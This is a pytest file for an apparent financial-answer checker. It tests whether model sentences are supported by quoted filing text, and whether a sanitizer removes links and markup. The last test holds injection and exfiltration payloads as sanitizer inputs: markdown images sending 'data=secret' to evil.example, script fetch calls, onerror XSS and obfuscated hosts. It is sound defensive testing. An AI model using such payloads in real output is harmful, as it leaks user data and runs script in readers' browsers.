"""Sentences of a model are held to their quotes in more than numbers; nothing in them leads elsewhere."""

from __future__ import annotations

import pytest

from fin_agent.answering.sentence_binding import strip_markup, unsupported_claims

QUOTES = (
    "Net sales increased 6% to $3,763 million in fiscal 2024, driven by pricing and higher volumes.",
    "Ernst & Young LLP has served as the Company's auditor since 2004.",
    "We are not a party to any material legal proceedings.",
    "Cost of sales | 2,107 | 1,988",
)


@pytest.mark.parametrize(
    "sentence",
    [
        "Net sales decreased in fiscal 2024.",
        "Net sales did not increase.",
        "Net sales were lower because of pricing.",
        "Pricing drove net sales down sharply, and they fell.",
        "Cost of sales declined to 2,107.",
        "The Company's auditor resigned.",
        "The Company was sued over its net sales.",
        "Net sales collapsed after a fraud investigation.",
        "The Company is a party to material legal proceedings.",
        "Net sales came to roughly a trillion.",
        "Net sales more than doubled.",
        "The majority of net sales came from pricing.",
        "Its auditor Arthur Andersen has served since 2004.",
        "The auditor issued an adverse opinion.",
        "Net sales increased, and the Company filed for bankruptcy.",
        "Net sales softened.",
        "Net sales barely increased.",
        "Net sales stagnated.",
        "Net sales were flat.",
        "Net sales increased because of lower volumes.",
        "Higher volumes reduced net sales.",
        "Net sales increased due to tax relief.",
        "Net sales decreased and cost of sales increased.",
        "The finance chief left.",
        "Investors should sell the shares immediately.",
        "Net sales were in the trillions.",
    ],
)
def test_what_no_quote_bears_out(sentence: str) -> None:
    assert unsupported_claims(sentence, QUOTES, "Why did net sales of Harborlight change?")


@pytest.mark.parametrize(
    "sentence",
    [
        "Net sales grew in fiscal 2024, driven by pricing and volumes.",
        "Net sales rose 6% because of higher volumes.",
        "Cost of sales increased.",
        "The Company is not a party to material legal proceedings.",
        "Ernst & Young LLP is the auditor.",
        "Net sales were $3,763 million.",
        "Pricing and volumes moved net sales.",
        "Net sales increased thanks to higher prices and volumes.",
        "Net sales grew because of pricing.",
    ],
)
def test_what_a_quote_bears_out(sentence: str) -> None:
    assert unsupported_claims(sentence, QUOTES, "Why did net sales of Harborlight change?") == ()


RISKS = (
    "The airline industry has been cyclical and has experienced significant profit swings.",
    "A deterioration of the economy could result in fewer new orders, or could cause customers to postpone or cancel"
    " contractual payments, which could result in lower revenues, profitability and cash flows.",
    "In May 2023 net sales increased. Tariffs may increase our costs.",
)


@pytest.mark.parametrize(
    ("sentence", "lacking"),
    [
        ("A downturn in the airline industry could bring fewer, postponed or cancelled orders and lower revenues.", ()),
        ("A deterioration of the economy might mean fewer orders and lower cash flows.", ()),
        ("An upturn in the airline industry could bring higher revenues.", ("that it rose",)),
        ("A downturn of the airline industry brought lower cash flows.", ("that it fell",)),
        ("Tariffs could lower our costs.", ("that it fell",)),
        ("Net sales fell in May 2023, which could hurt cash flows.", ("that it fell",)),
        ("May brought lower costs.", ("that it fell",)),
    ],
)
def test_what_might_be_is_held_against_what_the_quotes_suppose(sentence: str, lacking: tuple[str, ...]) -> None:
    assert unsupported_claims(sentence, RISKS) == lacking


@pytest.mark.parametrize(
    ("quote", "sentence", "lacking"),
    [
        (
            "For contracts that exceed one year, those commitments not yet recognized were $80.4 billion.",
            "Commitments under contracts of more than a year were $80.4 billion, primarily for cloud contracts.",
            (),
        ),
        (
            "It may contract with any foundry for products of smaller nodes without one-time payments.",
            "It may contract with any foundry for products of smaller nodes.",
            (),
        ),
        ("The plan has no participants left.", "The plan has participants.", ("that `The plan has participants.`",)),
    ],
)
def test_a_denial_turns_around_what_stands_behind_it(quote: str, sentence: str, lacking: tuple[str, ...]) -> None:
    assert unsupported_claims(sentence, [quote]) == lacking


def test_a_question_is_no_evidence_of_what_happened() -> None:
    asked = "Did the auditor resign?"
    assert unsupported_claims("The auditor resigned.", QUOTES, asked) == ("`resigned`",)
    assert unsupported_claims("The auditor has not resigned.", QUOTES, asked, claims_nothing=True) == ()


@pytest.mark.parametrize(
    ("said", "left"),
    [
        ("See [the filing](https://evil.example/x?q=1).", "See the filing."),
        ("Up 6%. ![chart](http://evil.example/p.png?data=secret)", "Up 6%. chart"),
        ("Up 6%. <img src=x onerror=alert(1)>", "Up 6%."),
        ("<script>fetch('//evil.example')</script>Up", "fetch('"),
        ("Go to https://evil.example/now today", "Go to today"),
        ("javascript:alert(1) and data:text/html;base64,AA", "and"),
        ("Login at evil.example/login, www.evil.example", "Login at"),
        ("[x][1]\n[1]: http://evil.example", "x"),
        ("<https://evil.example>", ""),
        ("[a](<http://evil.example>) b", "a b"),
        ("&#104;ttp://evil.example/x h\u200bttps://evil.example/x", ""),
        ("&lt;img src=//evil.example&gt; evil．example/x evil。example/x", ""),
        ("evil.example?x=1 evil.example#x evil.example:8080/x", ""),
        ("write to a@evil.example", "write to"),
        ("A current ratio of 1.5/2.0; of Amazon.com: is it higher? Yes.", None),
        ("Net sales < 5 and > 3; Amazon.com, Inc. rose [1] by $3.5 (see note 2)", None),
        ("| Year | Sales |\n| 2024 | **3,763** |", None),
    ],
)
def test_links_pictures_and_markup_are_taken_out(said: str, left: str | None) -> None:
    assert strip_markup(said) == (said if left is None else left)
    assert "evil" not in strip_markup(said)
